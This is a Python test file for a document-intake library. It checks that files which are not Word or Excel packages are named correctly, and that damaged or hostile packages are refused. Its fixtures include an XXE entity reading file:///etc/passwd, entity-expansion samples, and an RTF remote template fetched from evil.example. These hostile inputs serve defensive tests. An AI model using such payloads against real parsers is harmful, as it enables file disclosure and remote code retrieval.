"""Files that are no Word document or workbook at all: the clerk is told what they are."""

import io
import struct
import zipfile

import pytest

from congvan.opc import Kind, read_package
from tests.opc.zips import Item, build, codes, errors, good_docx, good_xlsx, parts_of

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504
PNG = b"\x89PNG\r\n\x1a\n" + b"\0" * 40


@pytest.mark.parametrize(
    ("data", "kind", "code", "said"),
    [
        (b"", "docx", "PK001", "empty"),
        (b"%PDF-1.7\n", "docx", "PK002", "a PDF"),
        (b"\xef\xbb\xbf\n%PDF-1.7\n", "docx", "PK002", "a PDF"),
        (b"<!DOCTYPE html><html>", "docx", "PK002", "web page"),
        (b"\xef\xbb\xbf  <HTML><table>", "xlsx", "PK002", "web page"),
        ("<html><table>".encode("utf-16"), "xlsx", "PK002", "web page"),
        (b"MIME-Version: 1.0\r\n", "docx", "PK002", "web archive"),
        (b"{\\rtf1\\ansi Xin ch\\'e0o}", "docx", "PK002", "RTF"),
        (b'<?xml version="1.0"?><?mso-application progid="Word.Document"?>', "docx", "PK002", "Word 2003"),
        (b'<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?>', "xlsx", "PK002", "Excel 2003"),
        (b'<?xml version="1.0"?><pkg:package xmlns:pkg="x"/>', "docx", "PK002", "flat XML"),
        (b'<?xml version="1.0"?><a/>', "docx", "PK002", "XML"),
        (OLE + "WordDocument".encode("utf-16-le"), "docx", "PK002", ".doc)"),
        (OLE + "Workbook".encode("utf-16-le"), "xlsx", "PK002", ".xls)"),
        (OLE + "PowerPoint Document".encode("utf-16-le"), "docx", "PK002", ".ppt)"),
        (OLE, "docx", "PK002", "old Office"),
        (OLE + "EncryptedPackage".encode("utf-16-le"), "docx", "PK004", "password"),
        (OLE + "EncryptedPackage".encode("utf-16-le"), "xlsx", "PK004", "password"),
        ("id;name\n1;Trường".encode(), "xlsx", "PK002", "CSV"),
        ("\ufeffid\tname\n1\tTrường".encode("utf-16-le"), "xlsx", "PK002", "CSV"),
        ("Kính gửi Trường THPT".encode(), "docx", "PK002", "plain text"),
        (PNG, "docx", "PK002", "PNG"),
        (b"\xff\xd8\xff\xe0" + b"\0" * 40, "docx", "PK002", "JPEG"),
        (b"GIF89a", "docx", "PK002", "GIF"),
        (b"\0\0\0\x18ftypheic", "docx", "PK002", "HEIC"),
        (b"Rar!\x1a\x07\0", "docx", "PK002", "RAR"),
        (b"7z\xbc\xaf\x27\x1c", "docx", "PK002", "7z"),
        (b"MZ\x90\0", "docx", "PK002", "program"),
        (b"\0\1\2\3\4\5", "docx", "PK002", "unknown"),
        (build([]), "docx", "PK020", "ZIP"),
        (build([Item("a.txt", b"a")]), "docx", "PK020", "ZIP"),
        (build([Item("mimetype", b"application/vnd.oasis.opendocument.text")]), "docx", "PK021", ".odt"),
        (build([Item("mimetype", b"application/vnd.oasis.opendocument.spreadsheet")]), "xlsx", "PK021", ".ods"),
        (good_xlsx(), "docx", "PK021", ".xlsx"),
        (good_docx(), "xlsx", "PK021", ".docx"),
    ],
)
def test_what_a_file_really_is_is_said(data: bytes, kind: Kind, code: str, said: str) -> None:
    (found,) = errors(data, kind)
    assert found.code == code
    assert said in found.message


def test_a_table_in_plain_text_only_needs_its_name() -> None:
    (found,) = errors(b"id,name\n1,A\n", "xlsx")
    assert ".csv" in found.fix


def test_a_pdf_is_not_sent_to_word_to_be_saved_anew() -> None:
    (pdf,), (old) = errors(b"%PDF-1.4"), errors(OLE + "WordDocument".encode("utf-16-le"))
    assert "Save As" not in pdf.fix
    assert "Save As" in old[0].fix


def test_an_rtf_document_with_a_remote_template_is_said_to_fetch_it() -> None:
    found = errors(rb"{\rtf1{\*\template http://evil.example/a.dotm}text}")
    assert {finding.code for finding in found} == {"PK002", "PK023"}
    assert "http://evil.example/a.dotm" in " ".join(finding.message for finding in found)


def test_an_address_with_control_characters_is_shown_harmless() -> None:
    found = errors(b"{\\rtf1{\\*\\template http://evil.example/\x1b[31m\xc2\x9b}}")
    assert not any("\x1b" in str(finding) or "\x9b" in str(finding) for finding in found)
    assert any("U+001B" in finding.message for finding in found)


@pytest.mark.parametrize("share", [0.02, 0.3, 0.9, 0.999])
def test_half_a_file_is_said_to_be_cut_off(share: float) -> None:
    data = good_docx()
    found = errors(data[: int(len(data) * share)])
    assert [finding.code for finding in found] == ["PK003"]


def test_a_cut_in_the_middle_is_said_to_be_damage() -> None:
    data = good_docx()
    assert codes(data[:5_000] + data[9_000:]) == {"PK003"}


def test_a_comment_that_is_cut_off_is_damage() -> None:
    assert codes(build([Item("a", b"a")], comment=b"long comment")[:-4]) == {"PK003"}


@pytest.mark.parametrize(
    ("kind", "main", "said"),
    [
        ("docx", "application/vnd.ms-word.document.macroEnabled.main+xml", ".docm"),
        ("docx", "application/vnd.ms-word.template.macroEnabledTemplate.main+xml", ".dotm"),
        ("docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml", ".dotx"),
        ("docx", "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml", ".pptx"),
        ("docx", "application/x-strange", "«application/x-strange»"),
        ("xlsx", "application/vnd.ms-excel.sheet.binary.macroEnabled.main", ".xlsb"),
        ("xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.template.main+xml", ".xltx"),
        ("xlsx", "application/vnd.ms-excel.addin.macroEnabled.main+xml", ".xlam"),
    ],
)
def test_another_office_kind_is_named(kind: Kind, main: str, said: str) -> None:
    found = errors(retyped(kind, main), kind)
    assert [finding.code for finding in found] == ["PK021"]
    assert said in found[0].message
    assert ("Save As" in found[0].fix) == (said not in {".pptx", "«application/x-strange»"})


def retyped(kind: Kind, main: str) -> bytes:
    """Return a good file whose main part claims another content type."""
    parts = parts_of(good_docx() if kind == "docx" else good_xlsx())
    right = {"docx": "wordprocessingml.document.main+xml", "xlsx": "spreadsheetml.sheet.main+xml"}[kind]
    types = parts["[Content_Types].xml"].decode()
    parts["[Content_Types].xml"] = types.replace(
        f"application/vnd.openxmlformats-officedocument.{right}", main
    ).encode()
    return build([Item(name, content) for name, content in parts.items()])


def test_a_workbook_with_macros_is_read_and_its_macros_are_told() -> None:
    data = retyped("xlsx", "application/vnd.ms-excel.sheet.macroEnabled.main+xml")
    package, findings = read_package(data, "a.xlsm", kind="xlsx")
    assert package is not None
    assert [finding.code for finding in findings] == ["PK021"]


def changed(name: str, content: bytes | None) -> bytes:
    """Return the good document with one part replaced, or taken out."""
    parts = parts_of(good_docx())
    if content is None:
        del parts[name]
    else:
        parts[name] = content
    return build([Item(part, data) for part, data in parts.items()])


RELS = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">%s</Relationships>'
OFFICE = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"
DTD = b'<!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/passwd">]>'


@pytest.mark.parametrize(
    ("name", "content", "code"),
    [
        ("[Content_Types].xml", None, "PK020"),
        ("[Content_Types].xml", b"<Types", "PK020"),
        ("[Content_Types].xml", DTD + b"<Types/>", "PK020"),
        ("_rels/.rels", None, "PK022"),
        ("_rels/.rels", RELS % b"", "PK022"),
        ("_rels/.rels", DTD + RELS % b"", "PK024"),
        ("_rels/.rels", b"<broken", "PK017"),
        ("word/document.xml", None, "PK022"),
        ("word/_rels/document.xml.rels", DTD + RELS % b"", "PK024"),
    ],
)
def test_a_package_that_does_not_say_what_it_is_is_refused(name: str, content: bytes | None, code: str) -> None:
    assert codes(changed(name, content)) == {code}


def test_a_package_with_two_main_parts_is_refused() -> None:
    line = b'<Relationship Id="r%d" Type="' + OFFICE + b'" Target="%s"/>'
    rels = RELS % (line % (1, b"word/document.xml") + line % (2, b"word/styles.xml"))
    assert codes(changed("_rels/.rels", rels)) == {"PK022"}


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16", "cp037"])
@pytest.mark.parametrize(
    "name", ["xl/worksheets/sheet1.xml", "xl/sharedStrings.xml", "xl/hidden.dat", "docProps/core.xml"]
)
def test_a_workbook_with_entities_in_any_part_is_refused(name: str, encoding: str) -> None:
    bomb = f'<?xml version="1.0" encoding="{encoding}"?><!DOCTYPE a [<!ENTITY e "ha">]><a>&e;</a>'
    parts = parts_of(good_xlsx()) | {name: bomb.encode("utf-8" if encoding == "cp037" else encoding)}
    assert codes(build([Item(part, data) for part, data in parts.items()]), "xlsx") == {"PK024"}


def test_more_references_than_any_file_needs_are_refused() -> None:
    line = b'<Relationship Id="r" Type="t" Target="x"/>'
    parts = {f"word/_rels/{number}.xml.rels": RELS % (line * 30_000) for number in range(4)}
    data = build([Item(name, content) for name, content in (parts_of(good_docx()) | parts).items()])
    assert codes(data) == {"PK019"}


def test_zip64_ends_that_point_nowhere_are_damage() -> None:
    locator = b"PK\x06\x07" + struct.pack("<LQL", 0, 2**63, 1)
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)
    assert codes(b"PK\x03\x04" + b"\0" * 100 + locator + end) == {"PK003"}


def test_a_zip_archive_with_a_document_inside_is_an_ordinary_archive() -> None:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        archive.writestr("cong-van.docx", good_docx())
    (found,) = errors(stream.getvalue())
    assert found.code == "PK020"
